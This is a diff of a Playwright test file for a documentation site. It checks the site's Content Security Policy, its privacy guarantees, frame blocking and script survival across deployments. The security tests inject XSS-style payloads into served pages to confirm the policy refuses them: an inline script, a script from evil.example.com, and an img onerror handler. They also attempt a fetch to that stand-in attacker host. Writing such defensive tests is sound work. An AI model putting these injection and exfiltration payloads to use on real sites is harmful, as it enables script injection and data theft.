@@ -1,24 +1,45 @@
 // What the site promises about security and privacy, as a browser sees it.
-import { cpSync, mkdtempSync, readFileSync, renameSync, rmSync, writeFileSync } from 'node:fs';
+import { mkdtempSync, readFileSync, renameSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
 import { execFileSync } from 'node:child_process';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
-import type { Page } from '@playwright/test';
-import { makeLaterRelease } from '../hosts/releases';
-import { startServer } from '../../scripts/serve/server.mjs';
-import { buildDir, connect, expect, hydrated, open, siteDir, test } from './site';
+import type { Browser, Page } from '@playwright/test';
+import { laterMark, makeLaterRelease } from '../hosts/releases';
+import { startServer, type Site } from '../../scripts/serve/server.mjs';
+import {
+  arrived,
+  buildDir,
+  colorModeButton,
+  connect,
+  expect,
+  heading,
+  hydrated,
+  open,
+  openSwitcher,
+  sameDocument,
+  sidebar,
+  sidebarLink,
+  siteDir,
+  test,
+} from './site';
 
-/** One page of each template. */
-const templates = {
-  home: '/',
-  'docs root': '/docs/',
-  guide: '/docs/Android/docScan',
-  'theme builder': '/docs/react-native/colorConfig',
-  reference: '/docs/capacitor/api/interfaces/DeckleSDK',
-  'reference index': '/docs/react-native/api/',
-  changelog: '/docs/Android/changelog',
-  'standalone page': '/how-samples-are-verified',
-} as const;
+const guide = '/docs/Android/docScan';
+
+/** Opens a page of another server than that of the tests, whose errors are expected. */
+async function visit(
+  browser: Browser,
+  options: Parameters<typeof startServer>[0],
+  use: (page: Page, site: Site) => Promise<void>,
+): Promise<void> {
+  const site = await startServer({ mode: 'direct', ...options });
+  const page = await browser.newPage({ baseURL: site.url });
+  try {
+    await use(page, site);
+  } finally {
+    await page.close();
+    await site.close();
+  }
+}
 
 /** Notes everything that the policy refuses, across navigations. */
 async function violationsOf(page: Page): Promise<string[]> {
@@ -33,39 +54,19 @@ async function violationsOf(page: Page): Promise<string[]> {
   return violations;
 }
 
-test.describe('nothing is blocked', () => {
-  test('on a page of each template, and on the not-found page', async ({ page, watch }) => {
-    watch.allow(/404/);
+test('nothing is refused on a host without headers, where the page carries the policy', async ({
+  browser,
+}) => {
+  // With headers, what is refused is an error in the console, which fails every test.
+  await visit(browser, { root: buildDir, bare: true }, async (page) => {
     const violations = await violationsOf(page);
-    for (const [name, path] of Object.entries({ ...templates, 'not found': '/docs/nope' })) {
-      await test.step(name, async () => {
-        const response = await page.goto(path);
-        expect(response?.headers()['content-security-policy']).toContain(
-          "default-src 'self'; script-src 'self' 'sha256-",
-        );
-        await hydrated(page);
-        await page.mouse.wheel(0, 20_000);
-        await page.waitForLoadState('networkidle');
-        expect(violations).toEqual([]);
-      });
+    // Each with other inline scripts and styles.
+    for (const path of ['/', guide, '/docs/react-native/colorConfig']) {
+      const response = await page.goto(path);
+      expect(response?.headers()).not.toHaveProperty('content-security-policy');
+      await hydrated(page);
     }
-  });
-
-  test('on a host without headers, where the page carries the policy', async ({ browser }) => {
-    const site = await startServer({ root: buildDir, mode: 'direct', bare: true });
-    const page = await browser.newPage();
-    try {
-      const violations = await violationsOf(page);
-      for (const path of Object.values(templates)) {
-        const response = await page.goto(`${site.url}${path}`);
-        expect(response?.headers()).not.toHaveProperty('content-security-policy');
-        await hydrated(page);
-      }
-      expect(violations).toEqual([]);
-    } finally {
-      await page.close();
-      await site.close();
-    }
+    expect(violations).toEqual([]);
   });
 });
 
@@ -80,7 +81,29 @@ const documentedKeys = [
   return new RegExp(`^${pattern}(?:-[\\da-f]{3})?$`);
 });
 
-async function expectPrivate(page: Page): Promise<void> {
+test('using everything asks no third party, sets no cookie and no service worker, and keeps only what is documented', async ({
+  page,
+  context,
+}) => {
+  await context.grantPermissions(['clipboard-read', 'clipboard-write']);
+  // That nothing leaves the site is what every test checks: see watchPage in site.ts.
+  await open(page, guide);
+  await page.getByRole('tab', { name: 'Java' }).first().click();
+  await page.locator('button[data-copy]').filter({ visible: true }).first().click();
+  await colorModeButton(page).click();
+  await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
+  const switcher = await openSwitcher(sidebar(page));
+  await switcher.locator('a[href="/docs/react-native/docScan"]').click();
+  await arrived(page, '/docs/react-native/docScan');
+
+  await open(page, '/docs/Android/colorConfig');
+  await page.getByRole('textbox', { name: 'colorPrimary, light, hex value' }).fill('#102030');
+  await expect(page).toHaveURL(/colors=/);
+
+  await open(page, '/');
+  await page.locator('main a[href="/docs/Android/intro"]').first().click();
+  await arrived(page, '/docs/Android/intro');
+
   const kept = await page.evaluate(async () => ({
     keys: [...Object.keys(localStorage), ...Object.keys(sessionStorage)],
     workers: (await navigator.serviceWorker.getRegistrations()).length,
@@ -89,192 +112,93 @@ async function expectPrivate(page: Page): Promise<void> {
     cookie: document.cookie,
   }));
   expect(kept.keys.filter((key) => !documentedKeys.some((known) => known.test(key)))).toEqual([]);
-  expect({ ...kept, keys: [] }).toEqual({
-    keys: [],
-    workers: 0,
-    caches: [],
-    databases: [],
-    cookie: '',
-  });
-  expect(await page.context().cookies()).toEqual([]);
-}
-
-test.describe('using everything', () => {
-  test('asks no third party, is refused nothing, sets no cookie and no service worker, and keeps only what is documented', async ({
-    page,
-    context,
-  }) => {
-    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
-    const violations = await violationsOf(page);
-    // That nothing leaves the site is what every test checks: see watchPage in site.ts.
-    await open(page, '/docs/Android/docScan');
-    await page.getByRole('tab', { name: 'Java' }).first().click();
-    await page.getByRole('button', { name: /^Copy/ }).filter({ visible: true }).first().click();
-    await page
-      .getByRole('button', { name: /Switch between dark and light mode/ })
-      .first()
-      .click();
-    await expect(page.locator('html')).toHaveAttribute('data-theme', 'dark');
-
-    const switcher = page.locator('aside.theme-doc-sidebar-container details').first();
-    await switcher.locator('summary').click();
-    await switcher.getByRole('link', { name: 'React Native', exact: true }).first().click();
-    await expect(page).toHaveURL('/docs/react-native/docScan');
-
-    await open(page, '/docs/Android/colorConfig');
-    await page.getByRole('textbox', { name: 'colorPrimary, light, hex value' }).fill('#102030');
-    await expect(page).toHaveURL(/colors=/);
-    await page.getByRole('radio', { name: 'Java' }).check();
-    await page.getByRole('button', { name: 'Reset' }).click();
-
-    await open(page, '/');
-    await page.getByRole('link', { name: /^Start with/ }).click();
-    await expect(page).toHaveURL(/\/docs\//);
-    await hydrated(page);
-    expect(violations).toEqual([]);
-    await expectPrivate(page);
-    expect(
-      await page.evaluate(() =>
-        Object.keys(localStorage).map((key) => key.replace(/-[\da-f]{3}$/, '')),
-      ),
-    ).toEqual(expect.arrayContaining(['theme', 'deckle.platform']));
-  });
-
-  test('is refused nothing in the drawer @phone', async ({ page }) => {
-    const violations = await violationsOf(page);
-    await open(page, '/docs/Android/onboarding');
-    await page.getByRole('button', { name: 'Toggle navigation bar' }).tap();
-    const drawer = page.locator('.navbar-sidebar');
-    await drawer.getByText('Switch platform').locator('..').tap();
-    await drawer.getByRole('link', { name: 'React Native', exact: true }).first().tap();
-    await expect(page).toHaveURL('/docs/react-native/onboarding');
-    expect(violations).toEqual([]);
-    await expectPrivate(page);
-  });
+  expect(kept.keys.map((key) => key.replace(/-[\da-f]{3}$/, ''))).toEqual(
+    expect.arrayContaining(['theme', 'deckle.platform']),
+  );
+  expect(kept).toMatchObject({ workers: 0, caches: [], databases: [], cookie: '' });
+  expect(await context.cookies()).toEqual([]);
 });
 
-test.describe('what does not belong to the site', () => {
-  for (const bare of [false, true]) {
-    test(`an injected script does not run, ${bare ? 'by the policy of the page alone' : 'by the header'}`, async ({
-      browser,
-    }) => {
-      const site = await startServer({ root: buildDir, mode: 'direct', bare });
-      const page = await browser.newPage();
-      try {
-        const violations = await violationsOf(page);
-        await page.route('**/docs/Android/docScan', async (route) => {
-          if (!route.request().isNavigationRequest()) {
-            await route.continue();
-            return;
-          }
-          const response = await route.fetch();
-          const html = (await response.text()).replace(
-            '</head>',
-            `<script>window.injected = 'script';</script>
-             <script src="https://evil.example.com/a.js"></script>
-             <style>body { display: none }</style></head>`,
-          );
-          await route.fulfill({
-            response,
-            body: html.replace(
-              '</article>',
-              '<img src="x" onerror="window.injected = 1"></article>',
-            ),
-          });
-        });
-        await page.goto(`${site.url}/docs/Android/docScan`);
-        await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-        await expect.poll(() => violations.join('\n')).toMatch(/script-src-attr: inline/);
-        expect(violations.join('\n')).toMatch(/script-src-elem: inline/);
-        expect(violations.join('\n')).toMatch(/script-src-elem: https:\/\/evil\.example\.com/);
-        expect(violations.join('\n')).toMatch(/style-src-elem: inline/);
-        expect(await page.evaluate(() => 'injected' in window)).toBe(false);
-      } finally {
-        await page.close();
-        await site.close();
-      }
-    });
-  }
-
-  test('data cannot be sent elsewhere', async ({ browser, baseURL }) => {
-    const page = await browser.newPage();
-    try {
+for (const [by, bare] of [
+  ['the header', false],
+  ['the policy of the page alone', true],
+] as const) {
+  test(`an injected script does not run and data cannot be sent elsewhere, by ${by}`, async ({
+    browser,
+  }) => {
+    const inject = (html: string): string =>
+      html
+        .replace(
+          '</head>',
+          `<script>window.injected = 'script';</script>
+           <script src="https://evil.example.com/a.js"></script>
+           <style>body { display: none }</style></head>`,
+        )
+        .replace('</article>', '<img src="x" onerror="window.injected = 1"></article>');
+    const rules = [{ path: guide, edit: inject }];
+    await visit(browser, { root: buildDir, bare, rules }, async (page) => {
       const violations = await violationsOf(page);
-      await page.goto(`${baseURL!}/docs/`);
-      expect(
-        await page.evaluate(() =>
-          fetch('https://evil.example.com/').then(
-            () => 'sent',
-            () => 'refused',
-          ),
-        ),
-      ).toBe('refused');
-      await expect
-        .poll(() => violations.join('\n'))
-        .toMatch(/connect-src: https:\/\/evil\.example\.com/);
-    } finally {
-      await page.close();
-    }
+      await page.goto(guide);
+      await expect(heading(page)).toBeVisible();
+      await expect(page.evaluate(() => fetch('https://evil.example.com/'))).rejects.toThrow();
+      for (const refused of [
+        /script-src-attr: inline/,
+        /script-src-elem: inline/,
+        /script-src-elem: https:\/\/evil\.example\.com/,
+        /style-src-elem: inline/,
+        /connect-src: https:\/\/evil\.example\.com/,
+      ]) {
+        await expect.poll(() => violations.join('\n')).toMatch(refused);
+      }
+      expect(await page.evaluate(() => 'injected' in window)).toBe(false);
+    });
   });
+}
 
-  test('another site cannot put a page into a frame', async ({ browser, baseURL }) => {
-    const folder = mkdtempSync(join(tmpdir(), 'frame-'));
-    writeFileSync(
-      join(folder, 'index.html'),
-      `<!doctype html><title>Frame</title><iframe src="${baseURL!}/docs/"></iframe>`,
+test('another site cannot put a page into a frame', async ({ browser, baseURL }) => {
+  const root = mkdtempSync(join(tmpdir(), 'frame-'));
+  writeFileSync(
+    join(root, 'index.html'),
+    `<!doctype html><title>Frame</title><iframe src="${baseURL!}/docs/"></iframe>`,
+  );
+  await visit(browser, { root }, async (page) => {
+    const refused = page.waitForEvent('requestfailed', (request) =>
+      request.url().endsWith('/docs/'),
     );
-    const other = await startServer({ root: folder });
-    const page = await browser.newPage();
-    try {
-      const refused = page.waitForEvent('requestfailed', (request) =>
-        request.url().endsWith('/docs/'),
-      );
-      await page.goto(`${other.url}/`);
-      expect((await refused).failure()?.errorText).toMatch(/BLOCKED_BY_(?:RESPONSE|CSP)/);
-      await expect(page.frameLocator('iframe').locator('.navbar')).toHaveCount(0);
-    } finally {
-      await page.close();
-      await other.close();
-      rmSync(folder, { recursive: true });
-    }
+    await page.goto('/');
+    expect((await refused).failure()?.errorText).toMatch(/BLOCKED_BY_(?:RESPONSE|CSP)/);
+    await expect(page.frameLocator('iframe').locator('.navbar')).toHaveCount(0);
   });
+  rmSync(root, { recursive: true });
 });
 
 test('a tab that was open during a deployment works with the scripts of the build before', async ({
   browser,
 }) => {
-  test.setTimeout(120_000);
   const folder = mkdtempSync(join(tmpdir(), 'deployments-'));
   const live = join(folder, 'live');
-  const next = join(folder, 'next');
+  const later = join(folder, 'later');
   const keep = (build: string): string =>
     execFileSync(
       process.execPath,
       ['scripts/keep-assets.mjs', join(folder, 'store'), '--build', build],
-      {
-        cwd: siteDir,
-        encoding: 'utf8',
-      },
+      { cwd: siteDir, encoding: 'utf8' },
     );
-  cpSync(buildDir, live, { recursive: true });
+  symlinkSync(buildDir, live);
   keep(live);
-  makeLaterRelease(buildDir, next);
-  const said = keep(next);
+  makeLaterRelease(buildDir, later);
+  const said = keep(later);
   expect(Number(/(\d+) kept from earlier/.exec(said)?.[1])).toBeGreaterThan(20);
 
-  const site = await startServer({ root: live, mode: 'direct' });
-  const page = await browser.newPage();
-  const errors: string[] = [];
-  page.on('pageerror', ({ message }) => void errors.push(message));
-  // Nothing is fetched ahead, so that the next page needs files after the deployment.
-  await connect(page);
-  try {
-    await page.goto(`${site.url}/docs/Android/docScan`);
-    await hydrated(page);
-    await page.evaluate(() => void ((window as unknown as { stays: boolean }).stays = true));
-
+  await visit(browser, { root: live }, async (page, site) => {
+    const errors: string[] = [];
+    page.on('pageerror', ({ message }) => void errors.push(message));
+    // Nothing is fetched ahead, so that the next page needs files after the deployment.
+    await connect(page);
+    await open(page, guide);
+    const stays = await sameDocument(page);
     renameSync(live, join(folder, 'before'));
-    renameSync(next, live);
+    renameSync(later, live);
     const seen = site.log.length;
 
     // What the open page needs besides is still there.
@@ -283,44 +207,29 @@ test('a tab that was open during a deployment works with the scripts of the buil
     const asked = site.log.slice(seen).filter(({ path }) => path.startsWith('/assets/js/'));
     expect(asked.length).toBeGreaterThan(0);
     expect(asked.filter(({ status }) => status !== 200)).toEqual([]);
-    expect(await page.evaluate(() => 'stays' in window)).toBe(true);
+    expect(await stays()).toBe(true);
     await page.keyboard.press('Escape');
 
     // The next page is one of the new deployment, with its scripts.
-    await page.locator('aside a[href="/docs/Android/pdfCreation"]').first().click();
-    await expect(page.getByRole('heading', { level: 1 })).toContainText(/PDF/);
+    await sidebarLink(page, '/docs/Android/pdfCreation').click();
+    await expect(heading(page)).toContainText(laterMark);
     await hydrated(page);
-    expect(await page.evaluate(() => 'stays' in window)).toBe(false);
-
-    await page.reload();
-    await hydrated(page);
-    await expect(page.getByRole('heading', { level: 1 })).toContainText(/PDF/);
+    expect(await stays()).toBe(false);
     // Said to the console, not to the reader: why the browser opened the page.
     expect(errors.filter((message) => !message.includes('newer version'))).toEqual([]);
-  } finally {
-    await page.close();
-    await site.close();
-    rmSync(folder, { recursive: true });
-  }
+  });
+  rmSync(folder, { recursive: true });
 });
 
-test.describe('wrong base URL', () => {
-  const message = 'Your Docusaurus site did not load properly.';
-
-  test('the home page of a build for / that is served below /sub/ says so', async ({ browser }) => {
-    const site = await startServer({ root: buildDir, base: '/sub', mode: 'direct' });
-    const page = await browser.newPage();
-    try {
-      await page.goto(`${site.url}/`);
-      await expect(page.getByText(message)).toBeVisible();
-      await expect(page.getByText('We suggest trying baseUrl = /sub/')).toBeVisible();
-      // Elsewhere there is no message: the page is readable as it is.
-      await page.goto(`${site.url}/docs/Android/docScan`);
-      await expect(page.getByRole('heading', { level: 1 })).toBeVisible();
-      await expect(page.getByText(message)).toHaveCount(0);
-    } finally {
-      await page.close();
-      await site.close();
-    }
+test('the home page of a build for / that is served below /sub/ says so', async ({ browser }) => {
+  await visit(browser, { root: buildDir, base: '/sub' }, async (page, { url }) => {
+    const message = page.getByText('Your Docusaurus site did not load properly.');
+    await page.goto(`${url}/`);
+    await expect(message).toBeVisible();
+    await expect(page.getByText('We suggest trying baseUrl = /sub/')).toBeVisible();
+    // Elsewhere there is no message: the page is readable as it is.
+    await page.goto(url + guide);
+    await expect(heading(page)).toBeVisible();
+    await expect(message).toHaveCount(0);
   });
 });
